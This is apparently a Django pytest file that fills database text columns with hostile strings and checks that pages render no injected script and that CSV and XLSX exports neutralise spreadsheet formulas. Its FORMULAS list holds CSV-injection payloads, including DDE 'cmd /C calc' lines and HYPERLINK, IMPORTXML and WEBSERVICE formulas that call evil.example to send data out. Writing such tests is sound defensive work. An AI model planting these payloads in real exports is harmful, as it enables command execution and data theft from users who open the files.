"""Whatever stands in the database, no page runs it and no export does.

Every column of free text of every table is filled with hostile text, past all forms; then everything that shows is
opened. New rooms are covered by themselves.
"""

import csv
import io
import json
import re
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Sequence

import pytest
from django.apps import apps
from django.db import DatabaseError, connection, models, transaction
from django.test import Client

from firmament.kernel.breakglass.tests.factories import OLGA
from firmament.kernel.testing.fixtures import browser_of
from firmament.kernel.wording.filling import Place
from firmament.lib.tabular.formulas import revealed
from firmament.lib.tabular.reading import read_table
from firmament.modules.clients.tests.factories import carlas_bakery
from firmament.modules.insertions.actions import insert_snippet
from firmament.modules.snippets.tests.factories import thanks
from tests.filling import FOR_MACHINES, OURS
from tests.walking import Page, pages, read

# Text that the program reads itself, and that no person can write.
TECHNICAL = re.compile(
    r"(^|_)(code|kind|key|hash|sha256|slug|timezone|locale|currency|media_type|password|scanner|lane|theme|wording"
    r"|fingerprint|brand|state|list|format|power|rule|path|session|country|secret|message_id|field|job|domain|scopes?"
    r"|verdict|event|salt|commitment|digest|error_class|label|type|target|channel)($|_)|email|_id$"
)

# 29 ways in which a cell begins that a spreadsheet program runs, or another's cleaning would miss.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd","/C calc","x")',
    "=1+1\t",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '",=1+1,"',
    ";=1+1",
)
# A table that shows nobody's text after so many turns has figures and names of ours alone, and shows none later.
ENOUGH = 3
OURS_IN = re.compile(r"1\+1|SUM\(|cmd|evil\.example")
ACTIVE = re.compile(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]|[\t\r\n]")


def columns() -> list[tuple[str, str, int]]:
    """Table, column and length of everything a person may have written."""
    return [
        (model._meta.db_table, one.column, one.max_length or 4000)
        for model in apps.get_models()
        if model.__module__.startswith("firmament.")
        for one in model._meta.local_fields
        if isinstance(one, models.CharField | models.TextField)
        and not one.choices
        and not isinstance(one, models.SlugField)
        and not TECHNICAL.search(one.column)
    ]


Column = tuple[str, str, int]


def fill(pick: Callable[[int], Sequence[str]], turn: int, into: Sequence[Column]) -> list[Column]:
    """Put text that fits into every row of every such column, at each turn the next; the columns that took it."""
    filled = []
    for table, column, limit in into:
        texts = list(pick(limit))
        try:
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute(
                    f'UPDATE "{table}" SET "{column}" ='
                    " (%s::text[])[1 + (abs(hashtext(id::text || %s)::bigint) + %s) %% %s]",
                    [texts, column, turn, len(texts)],
                )
                if cursor.rowcount:
                    filled.append((table, column, limit))
        except DatabaseError:
            # Written once for all, or bound by a rule of the table: nobody can put it there either.
            continue
    return filled


def packs(strings: Sequence[str], limit: int) -> list[str]:
    """As many of them as fit, one behind the other."""
    found, pack = [], ""
    for text in (s.replace("\x00", "") for s in strings if s.isprintable() or "<" in s):
        if len(text) > limit or "\ud800" <= max(text, default="") <= "\udfff":
            continue
        if len(pack) + len(text) + 1 > limit:
            found.append(pack)
            pack = ""
        pack = f"{pack} {text}" if pack else text
    return [*found, pack]


@pytest.fixture
def people(alice, ada, carla) -> dict[str, list[Client]]:
    partner, admin = browser_of("alice@acme.example"), browser_of("ada@acme.example")
    return {
        "staff": [partner, admin],
        "portal": [browser_of("carla@client.example")],
        "operator": [browser_of(OLGA)],
        "person": [partner],
        "public": [partner, Client()],
    }


@pytest.fixture
def doors(alice) -> list[tuple[Page, str]]:
    return [(page, page.url(alice)) for page in pages() if page.name not in FOR_MACHINES and page.has_example]


def opened(people, page: Page, url: str):
    """The first who is let in."""
    for browser in people[page.entrance.door]:
        response = browser.get(url)
        if response.streaming:
            list(response)
        elif response.status_code == 200 and response["Content-Type"].startswith("text/html"):
            return response
        assert response.status_code < 500, (page.name, response.status_code)
    return None


@pytest.mark.parametrize("turn", range(3))
def test_no_page_runs_what_stands_in_the_database(turn, people, doors, cases) -> None:
    strings = [*json.loads((cases("strings") / "blns.json").read_text()), *OURS]
    before: dict[str, Counter[str]] = {}
    for page, url in doors:
        response = opened(people, page, url)
        if response is not None:
            before[page.name] = read(response, url).tags
    known = set().union(*before.values())

    filled = fill(lambda limit: packs(strings, limit), turn, columns())

    faults, shown = [], 0
    for page, url in doors:
        response = opened(people, page, url)
        if response is None:
            assert page.name not in before, page.name
            continue
        seen = read(response, url)
        words = response.content.decode()
        shown += "x-canary" in words or "alert(" in words
        faults += [f"{page.name}: {danger}" for danger in seen.dangers]
        faults += [f"{page.name}: <{tag}>" for tag in set(seen.tags) - known]
        if seen.tags["script"] != before[page.name]["script"]:
            faults.append(f"{page.name}: another number of scripts")

    print(f"{len(filled)} columns filled, {len(before)} pages opened, {shown} show hostile text")
    assert not faults, "\n".join(faults)
    assert len(filled) >= 20 and shown >= 25


# What no address that we made ever holds.
STRANGE = (
    "%00",
    "q=%00",
    "after=%00",
    "columns=%ff&sort=%00",
    "sort=-password&before=x",
    "show=%F0%9F%92%A9&undo=x",
    "q=" + "x" * 8000,
)


def test_every_page_answers_a_script_and_a_strange_address(people, doors) -> None:
    """A part of the page for a script, and never a failure of ours, whatever stands behind the question mark."""
    asked = 0
    for page, url in doors:
        for browser in people[page.entrance.door]:
            answers = [browser.get(url, headers={"HX-Request": "true"})]
            answers += [browser.get(f"{url}?{query}") for query in STRANGE]
            for response in answers:
                if response.streaming:
                    list(response)
                assert response.status_code < 500, (page.name, response.status_code)
            asked += len(answers)
            if answers[0].status_code == 200:
                # Whoever stands behind is for pages that this one is kept from.
                break
    print(f"{asked} requests of {len(doors)} pages")
    assert asked >= 600


def test_no_cell_of_an_export_runs_and_each_reads_back_as_it_was(people, doors, alice) -> None:
    lists = []
    for page, url in doors:
        response = opened(people, page, url)
        shown = response.content.decode() if response is not None else ""
        # A dashboard exports one table at a time, and has no columns to choose; it has a test of its own below.
        keys = sorted(set(re.findall(r'name="columns" value="([^"]+)"', shown)))
        if keys and 'name="export"' in shown:
            lists.append((page, url, keys))
    cells: Counter[str] = Counter()
    told: Counter[str] = Counter()
    for turn in turns():
        for page, url, keys in lists:
            if turn >= ENOUGH and not told[page.name]:
                continue
            query = "?" + "&".join(f"columns={key}" for key in keys)
            # A workbook is read in a process of its own, which takes its time; it writes every text in the same way.
            for kind in ("csv",) if turn % 6 else ("csv", "xlsx"):
                response = exported(people, page, url + query, kind)
                found = [text for text in inert_cells(response.content, kind) if OURS_IN.search(text)]
                told[page.name] += len(found)
                strange = [text for text in found if text not in FORMULAS]
                assert not strange, (page.name, kind, strange)
                cells.update(found)

    print(f"{len(lists)} lists, {cells.total()} formulas of {len(cells)} forms read back")
    assert len(lists) >= 4
    assert set(cells) == set(FORMULAS), set(FORMULAS) - set(cells)


def test_no_cell_of_a_dashboards_table_runs_and_each_reads_back_as_it_was(people, doors, alice) -> None:
    insert_snippet(alice, thanks().pk, values={}, place=Place(channel="email", client_id=carlas_bakery().pk))
    boards = []
    for page, url in doors:
        response = opened(people, page, url)
        shown = response.content.decode() if response is not None else ""
        keys = sorted(set(re.findall(r'name="export" value="([^"]+)"', shown)) - {"csv", "xlsx"})
        boards += [(page, url, key) for key in keys]
    cells: Counter[str] = Counter()
    told: Counter[tuple[str, str]] = Counter()
    for turn in turns():
        for page, url, key in boards:
            if turn >= ENOUGH and not told[url, key]:
                continue
            cut = inert_cells(exported(people, page, url, key).content, "csv")
            found = [text for text in cut if OURS_IN.search(text)]
            told[url, key] += len(found)
            cells.update(found)

    print(f"{len(boards)} tables of dashboards, {cells.total()} formulas of {len(cells)} forms read back")
    assert len(boards) >= 4
    assert set(cells) == set(FORMULAS), (set(FORMULAS) - set(cells), set(cells) - set(FORMULAS))


def turns() -> Iterator[int]:
    """As many turns as there are forms: each has then stood in every column of every row.

    A column that took none of the first is empty or bound by a rule, and is left alone from then on.
    """
    into, took = columns(), set[Column]()
    for turn in range(len(FORMULAS)):
        took |= set(fill(lambda limit: [text for text in FORMULAS if len(text) <= limit], turn, into))
        if turn + 1 == ENOUGH:
            into = [one for one in into if one in took]
        yield turn


def exported(people, page: Page, url: str, kind: str):
    for browser in people[page.entrance.door]:
        response = browser.post(url, {"export": kind})
        if response.status_code == 200:
            assert response["Content-Disposition"].startswith("attachment")
            assert response["X-Content-Type-Options"] == "nosniff"
            return response
    raise AssertionError((page.name, kind))


def inert_cells(content: bytes, kind: str) -> list[str]:
    """What the export says, read again; no cell of it is one that a program would run."""
    if kind == "csv":
        raw = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert not [cell for row in raw for cell in row if ACTIVE.match(cell)]
        assert all(len(row) == len(raw[0]) for row in raw)
        return [revealed(cell) for row in raw[1:] for cell in row]
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<hyperlink" not in sheet
        assert not [name for name in book.namelist() if "external" in name.lower()]
    return [cell for row in read_table(content).rows for cell in row.cells]
